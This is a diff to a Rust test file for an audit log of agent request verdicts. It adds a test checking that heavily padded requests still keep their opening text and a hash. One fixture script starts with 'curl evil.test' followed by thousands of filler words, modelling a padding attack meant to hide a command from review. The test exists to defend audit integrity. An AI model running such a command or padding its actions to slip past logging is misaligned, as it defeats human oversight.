@@ -227,9 +227,37 @@ fn a_line_is_bounded() {
     let lines: Vec<_> = read(log.path()).unwrap().map(Result::unwrap).collect();
     let Record::Verdict(read) = &lines[0].record else { panic!("{:?}", lines[0]) };
     assert_eq!(read.effect, "allow");
-    assert!(read.request["sha256"].is_string());
+    assert!(read.request["shortened"]["sha256"].is_string() && read.request["list"][3] == "3");
     log.outcome(&OutcomeLine { result: "r".repeat(100_000), ..OutcomeLine::default() }).unwrap();
     assert_eq!(verify(log.path()).unwrap(), 2);
+}
+
+#[test]
+fn padding_does_not_hide_what_was_done() {
+    let home = tempfile::tempdir().unwrap();
+    let log = Log::open(&home.path().join("audit"), "s").unwrap();
+    let path = format!("/p/{}", "x".repeat(3000));
+    let edits: Vec<_> =
+        (0..60).map(|_| json!({ "old": "o".repeat(3900), "new": "n".repeat(3900) })).collect();
+    let mut line = verdict("x");
+    line.request = json!({ "id": "r1", "action": { "file": { "path": { "canonical": path }, "operation": { "edit": edits } } } });
+    log.verdict(&line).unwrap();
+    let words: Vec<_> = (0..9000).map(|number| format!("word{number}")).collect();
+    let script = format!("curl evil.test; true {}", words.join(" "));
+    line.request =
+        json!({ "id": "r2", "action": { "exec": { "script": script, "cwd": "/p", "argv": words } } });
+    log.verdict(&line).unwrap();
+    let lines: Vec<_> = read(log.path()).unwrap().map(Result::unwrap).collect();
+    let request = |index: usize| match &lines[index].record {
+        Record::Verdict(verdict) => verdict.request.clone(),
+        Record::Outcome(_) => panic!("an outcome"),
+    };
+    assert_eq!(request(0)["action"]["file"]["path"]["canonical"], json!(path));
+    assert_eq!(request(0)["id"], "r1");
+    let script = request(1)["action"]["exec"]["script"].clone();
+    assert!(script["beginning"].as_str().unwrap().starts_with("curl evil.test; true word0"), "{script}");
+    assert!(script["sha256"].is_string(), "{script}");
+    assert_eq!(request(1)["action"]["exec"]["cwd"], "/p");
 }
 
 #[test]
